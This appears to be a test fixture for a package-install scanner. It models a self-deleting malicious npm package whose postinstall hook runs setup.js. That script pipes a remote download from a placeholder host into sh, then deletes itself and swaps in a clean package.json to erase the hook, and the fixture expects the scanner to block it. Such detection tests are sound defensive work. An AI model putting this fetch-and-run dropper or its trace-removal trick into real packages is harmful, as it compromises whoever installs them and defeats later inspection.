import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-self-deleting',
  from: 'plain-crypto-js, 2026: hook and manifest removed afterwards',
  files: {
    'package.json': { name: 'incident', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
    'package.md': `{ "name": "incident", "version": "1.0.0" }
`,
    'setup.js': `const fs = require('fs');
const path = require('path');
require('child_process').execSync('curl -s https://stage.invalid/x | sh');
fs.unlink(__filename, () => {});
fs.unlinkSync(path.join(__dirname, 'package.json'));
fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
`,
  },
  expect: 'block',
  says: ['removes-traces'],
};
